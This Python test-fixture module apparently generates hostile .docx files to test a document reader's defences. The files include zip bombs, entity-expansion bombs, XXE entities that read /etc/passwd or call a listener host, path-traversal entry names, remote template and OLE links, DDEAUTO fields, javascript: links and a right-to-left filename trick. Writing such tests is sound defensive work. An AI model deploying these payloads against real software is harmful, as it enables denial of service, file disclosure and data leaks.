"""Hostile Word drafts, and other zip files under their name: bytes, from the address of a listener."""

from __future__ import annotations

import io
import zipfile

from tests.hostile.texts import MILLION, Make

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
_TYPES = (
    f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = f'<Relationships xmlns="{_PACKAGE}/relationships">{{}}</Relationships>'
_TOP = _RELATIONS.format(
    f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'
)


def paragraph(words: str) -> str:
    """Return a paragraph of a draft."""
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def body(inner: str, before: str = "") -> str:
    """Return the main part of a draft with an ordinary paragraph and something else in it."""
    spaces = f'xmlns:w="{_WORD}" xmlns:r="{_OFFICE}" xmlns:a="{_DRAWING}/main" xmlns:wp="{_DRAWING}/wordprocessingDrawing" xmlns:pic="{_DRAWING}/picture"'
    return f"{before}<w:document {spaces}><w:body>{paragraph('The council said no.')}{inner}</w:body></w:document>"


def draft(document: str, relations: str = "", **more: bytes) -> bytes:
    """Return a draft with this main part and relations; more parts by name, `__` for a slash."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _TYPES)
        package.writestr("_rels/.rels", _TOP)
        package.writestr("word/document.xml", document)
        package.writestr("word/_rels/document.xml.rels", _RELATIONS.format(relations))
        for name, data in more.items():
            package.writestr(name.replace("__", "/"), data)
    return file.getvalue()


def _always(inner: str) -> Make:
    return lambda _: draft(body(inner))


def _related(kind: str, target: str, inner: str, mode: str = ' TargetMode="External"') -> Make:
    def make(where: str) -> bytes:
        there = target.replace("WHERE", where)
        return draft(
            body(inner), f'<Relationship Id="x1" Type="{_OFFICE}/{kind}" Target="{there}"{mode}/>'
        )

    return make


_PICTURE = (
    "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>"
    '<a:blip {}="x1"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
)
_LINK = '<w:p><w:hyperlink r:id="x1"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>'
_ENTITIES = (
    "<!DOCTYPE w [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
_OUTER = "<!DOCTYPE w [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY f SYSTEM 'http://WHERE/f'>]>"


def _zeros(name: str, size: int) -> bytes:
    """Return a draft in which one part unpacks to so many bytes."""
    file = io.BytesIO(draft(body("")))
    package = zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED)
    with package, package.open(name, "w", force_zip64=True) as part:
        for _ in range(size // MILLION):
            part.write(bytes(MILLION))
    return file.getvalue()


def _swollen(filler: bytes, times: int) -> bytes:
    """Return a draft whose main part holds this filler, a million bytes at a time, so many times."""
    start, end = body(paragraph("FILLER")).split("FILLER")
    file = io.BytesIO(draft("", ""))
    again = io.BytesIO()
    with zipfile.ZipFile(file) as old, zipfile.ZipFile(again, "w", zipfile.ZIP_DEFLATED) as new:
        for name in set(old.namelist()) - {"word/document.xml"}:
            new.writestr(name, old.read(name))
        with new.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(start.encode())
            for _ in range(times):
                part.write(filler * (MILLION // len(filler)))
            part.write(end.encode())
    return again.getvalue()


def _many(count: int) -> bytes:
    return draft(body(""), **{f"word__media__{n}.png": b"" for n in range(count)})


def _traversing(_: str) -> bytes:
    names = (
        "../../../../tmp/owned-by-redpencil",
        "/tmp/owned-by-redpencil",
        "..\\..\\owned",
        "C:\\owned",
        "word/../../owned",
    )
    file = io.BytesIO(draft(body("")))
    with zipfile.ZipFile(file, "a") as package:
        for name in names:
            package.writestr(zipfile.ZipInfo(name), b"owned")
    return file.getvalue()


def _lying(_: str) -> bytes:
    """Return a draft whose main part is announced as one byte long."""
    data = bytearray(draft(body(paragraph("x" * MILLION))))
    at = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 1) + 1)
    data[at + 24 : at + 28] = (1).to_bytes(4, "little")
    return bytes(data)


def _inside_itself(_: str) -> bytes:
    data = draft(body(""))
    for _level in range(30):
        data = draft(body(""), word__embeddings__a=data)
    return data


DRAFTS: dict[str, Make] = {
    "zip-bomb.docx": lambda _: _zeros("word/media/image1.png", 2_000 * MILLION),
    "zip-bomb-in-the-text.docx": lambda _: _swollen(b" ", 300),
    "zip-bomb-of-text.docx": lambda _: _swollen(b"a", 120),
    "parts-without-end.docx": lambda _: _many(70_000),
    "traversing-names.docx": _traversing,
    "lying-sizes.docx": _lying,
    "inside-itself.docx": _inside_itself,
    "entity-bomb.docx": lambda _: draft(body(paragraph("&a11;"), _ENTITIES)),
    "outer-entities.docx": lambda where: draft(body(paragraph("&e;&f;"), _OUTER.replace("WHERE", where))),
    "tables-in-tables.docx": _always("<w:tbl><w:tr><w:tc>" * 3_000 + paragraph("deep") + "</w:tc></w:tr></w:tbl>" * 3_000),
    "wide-table.docx": _always(f"<w:tbl><w:tr>{f'<w:tc>{paragraph(chr(97))}</w:tc>' * 200_000}</w:tr></w:tbl>"),
    "spanning-cells.docx": _always("<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='100000000'/></w:tcPr></w:tc></w:tr></w:tbl>"),
    "runs-in-runs.docx": _always("<w:sdt><w:sdtContent>" * 50_000 + paragraph("deep") + "</w:sdtContent></w:sdt>" * 50_000),
    "paragraphs-without-end.docx": _always(paragraph("a") * 250_000),
    "paragraph-of-5-mb.docx": _always(paragraph("word " * MILLION)),
    "remote-picture.docx": _related("image", "http://WHERE/p.png", _PICTURE.format("r:link")),
    "remote-picture-embedded.docx": _related("image", "http://WHERE/p.png", _PICTURE.format("r:embed")),
    "local-picture.docx": _related("image", "file:///etc/passwd", _PICTURE.format("r:embed")),
    "shared-picture.docx": _related("image", "\\\\WHERE\\share\\p.png", _PICTURE.format("r:embed")),
    "picture-outside.docx": _related("image", "../../../../etc/passwd", _PICTURE.format("r:embed"), ""),
    "remote-template.docx": _related("attachedTemplate", "http://WHERE/t.dotm", ""),
    "remote-frame.docx": _related("frame", "http://WHERE/f", ""),
    "remote-chunk.docx": _related("aFChunk", "http://WHERE/c", '<w:altChunk r:id="x1"/>'),
    "remote-object.docx": _related("oleObject", "file://WHERE/share/o", ""),
    "script-link.docx": _related("hyperlink", "javascript:alert(1)", _LINK),
    "local-link.docx": _related("hyperlink", "file:///etc/passwd", _LINK),
    "fields.docx": lambda where: draft(body(f"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://{where}/p\"'/><w:fldSimple w:instr='DDEAUTO c:\\\\a'/></w:p>")),
    "style-of-itself.docx": lambda _: draft(
        body("<w:p><w:pPr><w:pStyle w:val='a'/></w:pPr></w:p>"), f'<Relationship Id="s" Type="{_OFFICE}/styles" Target="styles.xml"/>',
        **{"word__styles.xml": f"<w:styles xmlns:w='{_WORD}'><w:style w:type='paragraph' w:styleId='a'><w:basedOn w:val='a'/></w:style></w:styles>".encode()}),
    "footnote-of-itself.docx": lambda _: draft(
        body("<w:p><w:r><w:footnoteReference w:id='2'/></w:r></w:p>"), f'<Relationship Id="f" Type="{_OFFICE}/footnotes" Target="footnotes.xml"/>',
        **{"word__footnotes.xml": f"<w:footnotes xmlns:w='{_WORD}'><w:footnote w:id='2'><w:p><w:r><w:footnoteReference w:id='2'/></w:r></w:p></w:footnote></w:footnotes>".encode()}),
    "tricks-of-direction.docx": _always(paragraph("The order \u202egnp.exe\u202c.") * 500),
    "no-package.docx": lambda _: b"PK\x03\x04" + bytes(1000),
    "cut.docx": lambda _: draft(body(paragraph("a" * 1000)))[:400],
}  # fmt: skip
